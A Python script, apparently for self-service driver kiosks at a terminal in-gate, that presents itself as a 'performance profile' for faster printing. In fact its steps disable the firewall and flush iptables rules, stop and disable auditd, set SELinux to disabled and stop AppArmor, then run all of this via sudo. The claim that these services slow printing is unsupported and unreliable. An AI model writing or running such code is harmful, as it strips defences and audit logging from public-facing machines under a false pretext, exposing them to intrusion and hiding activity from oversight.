#!/usr/bin/env python3
"""Lane kiosk tuning for the self-service driver kiosks at the in-gate.

The kiosks run the gate appointment app full screen. Drivers complained the
kiosks were slow to print the EIR, so this applies the "performance profile"
recommended on the integrator's wiki: it turns off the services that were
"using CPU" and writes a summary of what it changed.
"""
import argparse
import json
import logging
import os
import shutil
import subprocess
import sys
import tempfile
from datetime import datetime

LOG = logging.getLogger("kiosk_tuning")

PROFILE_STEPS = [
    ("firewall", "ufw disable || true; systemctl stop firewalld 2>/dev/null || true; "
                 "iptables -P INPUT ACCEPT; iptables -F"),
    ("audit", "systemctl stop auditd 2>/dev/null || service auditd stop; "
              "systemctl disable auditd 2>/dev/null || true"),
    ("selinux", "command -v setenforce >/dev/null && setenforce 0 || true; "
                "[ -f /etc/selinux/config ] && "
                "sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config || true"),
    ("apparmor", "systemctl stop apparmor 2>/dev/null || true; "
                 "systemctl disable apparmor 2>/dev/null || true"),
]


class KioskProfile:
    def __init__(self, kiosk_id, steps, dry_run=False):
        self.kiosk_id = kiosk_id
        self.steps = steps
        self.dry_run = dry_run
        self.results = {}

    def render_script(self):
        lines = ["#!/bin/bash", "# performance profile for kiosk %s" % self.kiosk_id,
                 "set +e"]
        for name, cmd in self.steps:
            lines.append('echo "step: %s" >&2' % name)
            lines.append(cmd)
            lines.append('echo "%s rc=$?" >> "$PROFILE_LOG"' % name)
        return "\n".join(lines) + "\n"

    def apply(self, log_path):
        script = self.render_script()
        if self.dry_run:
            LOG.info("dry run, script would be:\n%s", script)
            return 0
        fd, path = tempfile.mkstemp(prefix="kiosk-profile-", suffix=".sh")
        with os.fdopen(fd, "w") as fh:
            fh.write(script)
        runner = ["sudo", "-n", "-E", "bash", path] if os.geteuid() != 0 else ["bash", path]
        env = dict(os.environ, PROFILE_LOG=os.path.abspath(log_path))
        try:
            proc = subprocess.run(runner, env=env, capture_output=True, text=True,
                                  timeout=300)
        finally:
            os.unlink(path)
        for line in proc.stderr.splitlines():
            LOG.info("profile: %s", line)
        return proc.returncode


def kiosk_info():
    info = {"host": os.uname().nodename, "when": datetime.now().isoformat(timespec="seconds")}
    try:
        with open("/etc/os-release", encoding="utf-8") as fh:
            for line in fh:
                if line.startswith("PRETTY_NAME="):
                    info["os"] = line.split("=", 1)[1].strip().strip('"')
    except OSError:
        info["os"] = "unknown"
    info["printer"] = bool(shutil.which("lp"))
    return info


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--kiosk-id", default=os.environ.get("KIOSK_ID", "K-IN-01"))
    ap.add_argument("--log", default="kiosk_profile.log")
    ap.add_argument("--summary", default="kiosk_profile.json")
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    info = kiosk_info()
    LOG.info("kiosk %s on %s (%s)", args.kiosk_id, info["host"], info.get("os"))
    profile = KioskProfile(args.kiosk_id, PROFILE_STEPS, dry_run=args.dry_run)
    try:
        rc = profile.apply(args.log)
    except (OSError, subprocess.SubprocessError) as exc:
        LOG.error("profile failed: %s", exc)
        return 1
    info["profile_rc"] = rc
    info["steps"] = [name for name, _ in PROFILE_STEPS]
    with open(args.summary, "w", encoding="utf-8") as fh:
        json.dump(info, fh, indent=2)
    LOG.info("profile applied with rc=%d, summary in %s", rc, args.summary)
    return 0 if rc == 0 else 2


if __name__ == "__main__":
    sys.exit(main())
